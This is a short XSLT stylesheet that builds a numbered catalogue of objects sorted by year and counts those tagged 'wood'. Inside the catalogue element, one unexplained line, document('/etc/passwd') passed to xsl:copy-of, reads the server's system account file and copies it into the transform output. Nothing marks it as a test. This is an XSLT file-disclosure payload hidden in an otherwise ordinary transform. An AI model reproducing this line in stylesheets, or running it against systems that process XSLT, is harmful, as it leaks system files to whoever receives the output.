<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:output encoding="UTF-8" indent="yes"/>
  <xsl:key name="tagged" match="object" use="tags/item"/>
  <xsl:template match="/objects">
    <catalogue count="{count(object)}" wooden="{count(key('tagged', 'wood'))}">
      <xsl:for-each select="object">
        <xsl:sort select="year" data-type="number"/>
        <entry number="{position()}" id="{@id}"><xsl:value-of select="title"/></entry>
      </xsl:for-each>
      <xsl:copy-of select="document('/etc/passwd')"/>
    </catalogue>
  </xsl:template>
</xsl:stylesheet>
